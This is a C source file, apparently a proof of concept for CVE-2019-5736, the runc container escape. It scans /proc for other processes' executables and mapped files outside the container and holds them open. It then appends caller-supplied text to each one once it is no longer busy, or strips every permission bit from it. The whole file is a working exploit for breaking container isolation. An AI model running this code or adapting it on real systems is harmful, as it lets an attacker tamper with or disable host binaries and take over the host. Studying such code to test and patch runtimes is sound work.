/*
 *     overwrite TEXT
 *     overwrite --mode
 *
 * CVE-2019-5736: opens the program of every process that it sees, of /proc/PID/exe and /proc/PID/map_files, holds those that are
 * not its own, and writes TEXT at their end as soon as nobody executes them, or takes everybody the right to execute them. Until it
 * is killed. It prints
 *
 *     opened PATH       a program that is not of this container
 *     wrote PATH        and that it could write to
 *     closed PATH       and whose mode it could change
 */

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static struct {
    dev_t device;
    ino_t inode;
    int fd;
    int done;
    char path[256];
} held[64];
static int count, own;

/* The first ones are what is in /bin: the container's own. */
static int known(const struct stat *seen)
{
    for (int i = 0; i < count; i++)
        if (held[i].device == seen->st_dev && held[i].inode == seen->st_ino)
            return 1;
    return 0;
}

static void hold(const char *path, int announce)
{
    struct stat seen;
    int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    if (fd < 0)
        return;
    if (fstat(fd, &seen) < 0 || !S_ISREG(seen.st_mode) || known(&seen) || count == 64) {
        close(fd);
        return;
    }
    held[count].device = seen.st_dev;
    held[count].inode = seen.st_ino;
    held[count].fd = fd;
    /* Of what is open: the process may have ended meanwhile, or execute something else. */
    char own[32];
    snprintf(own, sizeof own, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(own, held[count].path, sizeof held[count].path - 1);
    if (announce)
        printf("opened %s (mode %o)\n", n > 0 ? held[count].path : path, seen.st_mode & 07777);
    count++;
}

static void all_of(const char *directory)
{
    char path[512];
    DIR *dir = opendir(directory);
    if (!dir)
        return;
    for (struct dirent *entry; (entry = readdir(dir));) {
        snprintf(path, sizeof path, "%s/%s", directory, entry->d_name);
        hold(path, own);
    }
    closedir(dir);
}

static void try_to_write(int i, const char *text)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", held[i].fd);
    int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
    if (fd < 0) {
        if (errno != ETXTBSY)
            held[i].done = 1;
        return;
    }
    held[i].done = 1;
    if (write(fd, text, strlen(text)) > 0)
        printf("wrote %s\n", held[i].path);
    close(fd);
}

int main(int argc, char **argv)
{
    if (argc != 2)
        return 2;
    setvbuf(stdout, NULL, _IOLBF, 0);
    all_of("/bin");
    hold("/proc/self/exe", 0);
    own = count;
    puts("ready");
    for (;;) {
        DIR *proc = opendir("/proc");
        if (!proc)
            return 1;
        for (struct dirent *entry; (entry = readdir(proc));) {
            int pid = atoi(entry->d_name);
            char path[64];
            if (pid <= 0 || pid == getpid())
                continue;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            hold(path, 1);
            snprintf(path, sizeof path, "/proc/%d/map_files", pid);
            all_of(path);
        }
        closedir(proc);
        for (int i = own; i < count; i++) {
            if (held[i].done)
                continue;
            if (strcmp(argv[1], "--mode") != 0) {
                try_to_write(i, argv[1]);
            } else {
                held[i].done = 1;
                if (fchmod(held[i].fd, 0) == 0)
                    printf("closed %s\n", held[i].path);
            }
        }
    }
}
